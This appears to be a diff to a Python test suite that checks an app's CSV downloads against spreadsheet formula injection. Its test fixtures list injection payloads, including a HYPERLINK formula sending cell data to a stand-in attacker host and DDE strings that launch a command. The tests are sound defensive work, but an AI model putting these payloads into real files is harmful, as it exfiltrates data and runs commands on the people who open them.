@@ -12,6 +12,7 @@ Download file names made from the name are checked too.
 from __future__ import annotations
 
 import base64
+import csv
 import dataclasses
 import io
 import json
@@ -23,6 +24,7 @@ import tokenize
 import zlib
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
 from hypothesis import given, settings
@@ -34,7 +36,7 @@ import sharecore
 from sharecore import urlstate
 from sharecore.codegen import keras_code
 from sharecore.spec import ModelSpec, TrainConfig
-from sharecore.text import MAX_FILE_STEM, safe_file_name
+from sharecore.text import MAX_FILE_STEM, csv_text, safe_file_name
 from tests import test_browser
 from tests.test_browser import browser, new_tab, server  # noqa: F401 - the real-Chromium fixtures
 
@@ -370,6 +372,21 @@ def downloads(monkeypatch) -> list[str]:
     return names
 
 
+@pytest.fixture
+def downloaded(monkeypatch) -> dict[str, bytes]:
+    """File name -> the bytes of every download button the app offers."""
+    files: dict[str, bytes] = {}
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def recording(self, path_or_data, mimetype, kind, filename=None):
+        if filename is not None:
+            files[filename] = path_or_data.encode() if isinstance(path_or_data, str) else bytes(path_or_data)
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
+    return files
+
+
 def open_link(page: str, spec_param: str, **query: str) -> AppTest:
     at = AppTest.from_file(APP, default_timeout=60)
     at.query_params.update({"preset": "seed-dense", "spec": spec_param, **query})
@@ -440,7 +457,7 @@ def test_a_pasted_json_surrogate_escape_is_an_error_not_an_exception() -> None:
 
 # ----------------------------------------------------------------------------- downloads and results
 @pytest.mark.slow
-def test_a_tiny_run_of_a_hostile_spec_trains_and_offers_safe_downloads(downloads) -> None:
+def test_a_tiny_run_of_a_hostile_spec_trains_and_offers_safe_downloads(downloads, downloaded) -> None:
     at = open_link("train", urlstate.encode_spec(HOSTILE), steps="2", batch="4")
     at.button(key="train.start").click().run()
     deadline = time.monotonic() + 120
@@ -453,6 +470,13 @@ def test_a_tiny_run_of_a_hostile_spec_trains_and_offers_safe_downloads(downloads
     assert at.session_state["result"].steps_done == 2
     suffixes = [".json", "_history.csv", "_gradients.csv", "_divergence.csv", "_summary.json"]
     assert set(downloads) == {safe_file_name(MD_NAME, suffix) for suffix in suffixes}
+    result = at.session_state["result"]
+    for frame in ("history", "gradients", "divergence"):  # the run's own numbers, and no cell a live formula
+        csv_file = downloaded[safe_file_name(MD_NAME, f"_{frame}.csv")].decode()
+        assert_no_live_formula(csv_file)
+        assert csv_file == csv_text(getattr(result, frame)), frame
+        back = pd.read_csv(io.StringIO(csv_file))
+        pd.testing.assert_frame_equal(back, getattr(result, frame), check_dtype=False, obj=frame)
 
 
 def test_summary_json_and_csvs_keep_the_name_as_escaped_data() -> None:
@@ -470,6 +494,93 @@ def test_summary_json_and_csvs_keep_the_name_as_escaped_data() -> None:
         assert not [v for v in text_cells if v[:1] in "=+-@\t\r"], frame.columns
         assert name not in frame.to_csv(index=False)
         pd.testing.assert_frame_equal(pd.read_csv(io.StringIO(frame.to_csv(index=False))), frame, check_dtype=False)
+
+
+# ----------------------------------------------------------------------------- spreadsheet formulas in CSVs
+# Cells that Excel, LibreOffice and Google Sheets would run as formulas (OWASP, "CSV Injection").
+FORMULAS = (
+    '=HYPERLINK("http://attacker.invalid/?x="&A1,"details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def csv_cells(text: str) -> list[list[str]]:
+    """The cells of a CSV as Python's csv module reads it (an oracle independent of pandas)."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def assert_no_live_formula(text: str) -> None:
+    """No cell starts with a formula character unless it is a number (a spreadsheet reads -0.5 as -0.5)."""
+    for row in csv_cells(text):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # ValueError: a live formula
+
+
+def test_csv_text_quotes_formula_text_as_text_and_keeps_negative_numbers_numbers() -> None:
+    frame = pd.DataFrame(
+        {
+            # Text, even text that reads as a number; a carriage return mid-cell would start a row of its own.
+            "label": [*FORMULAS, "lr 0.1 (was 0.01)", "-0.5", "ok\r=1+1"],
+            "value": [-0.5, -1e-300, -3.0, 0.0, float("-inf"), 2.5, float("nan"), -7.25, 1.0],
+            "step": np.array([-1, 0, 1, 2, 3, 4, 5, 6, 7], dtype=np.int64),
+            "tied": [True, False, True] * 3,
+        }
+    )
+    text = csv_text(frame)
+
+    assert_no_live_formula(text)
+    header, *rows = csv_cells(text)
+    assert header == ["label", "value", "step", "tied"]
+    assert [row[0] for row in rows] == [f"'{label}" for label in FORMULAS] + ["lr 0.1 (was 0.01)", "'-0.5", "ok\r=1+1"]
+    back = pd.read_csv(io.StringIO(text))
+    assert back["value"].dtype == np.float64 and back["step"].dtype == np.int64 and back["tied"].dtype == bool
+    # The same float64 values written and read back (repr round-trips): exact.
+    np.testing.assert_array_equal(back["value"].to_numpy(), frame["value"].to_numpy())
+    np.testing.assert_array_equal(back["step"].to_numpy(), frame["step"].to_numpy())
+    assert [row[1] for row in rows][:3] == ["-0.5", "-1e-300", "-3.0"], "a negative number is written as a number"
+    pd.testing.assert_frame_equal(frame, frame.copy(), obj="csv_text leaves its frame as it was")
+    assert csv_text(pd.DataFrame({"=cmd": ["x"]})).splitlines()[0] == "'=cmd", "a column name is a cell too"
+
+
+def test_the_comparison_csv_writes_a_hostile_run_label_as_text_and_every_number_as_a_number() -> None:
+    from sharecore import compare
+
+    result = sharecore.train(BASE, TrainConfig(steps=4, batch_size=4, record_every=1))
+    runs = [compare.LabelledRun(label, result, "") for label in (*FORMULAS, "plain")]
+
+    text = compare.comparison_csv(runs)
+
+    assert_no_live_formula(text)
+    header, *rows = csv_cells(text)
+    assert header == ["run", "series", "step", "variant", "value"]
+    assert {row[0] for row in rows} == {f"'{label}" for label in FORMULAS} | {"plain"}
+    curves = compare.curves(runs)
+    assert len(rows) == len(curves)
+    np.testing.assert_allclose([float(row[4]) for row in rows], curves["value"], rtol=0, atol=0, equal_nan=True)
+    assert (curves["value"] < 0).any() == any(row[4].startswith("-") for row in rows)
+
+
+def test_the_cli_writes_its_csvs_through_csv_text(tmp_path: Path) -> None:
+    from sharecore import cli
+
+    result = sharecore.train(BASE, TrainConfig(steps=2, batch_size=4))
+    # Text a spec's validated names cannot hold, put into every frame: the files must still hold no formula.
+    hostile = dataclasses.replace(
+        result, **{name: getattr(result, name).assign(variant=FORMULAS[0]) for name in ("history", "gradients")}
+    )
+
+    assert cli._write_results(hostile, hostile.summary(), tmp_path) == {}
+
+    for name in ("history", "gradients", "divergence", "heldout"):
+        written = (tmp_path / f"{name}.csv").read_text()
+        assert written == csv_text(getattr(hostile, name)), name
+        assert_no_live_formula(written)
+    assert csv_cells((tmp_path / "history.csv").read_text())[1][1] == f"'{FORMULAS[0]}"
 
 
 # ----------------------------------------------------------------------------- 7. in a real browser
